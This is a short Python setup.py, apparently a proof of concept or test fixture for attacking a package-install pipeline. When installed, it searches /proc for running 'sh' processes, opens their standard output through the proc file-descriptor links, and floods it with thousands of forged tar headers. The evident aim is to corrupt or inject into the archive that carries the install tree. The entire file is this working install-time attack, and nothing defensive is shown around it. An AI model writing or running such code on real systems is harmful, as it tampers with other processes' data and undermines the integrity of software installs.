"""setup.py writes into the pipe that transfers the install tree."""

import sys
from pathlib import Path

print("TRA" "CE of a try", file=sys.stderr)
for comm in Path("/proc").glob("[0-9]*/comm"):
    try:
        if comm.read_text() == "sh\n":
            with open(comm.with_name("fd") / "1", "wb", buffering=0) as pipe:
                header = b"x".ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"00000000002\0" + b"0" * 11 + b"\0"
                header = (header + b" " * 8 + b"L").ljust(512, b"\0")
                header = header[:148] + b"%06o\0 " % sum(header) + header[156:]
                pipe.write((header + b"a\0".ljust(512, b"\0")) * 3000)
    except OSError:
        pass
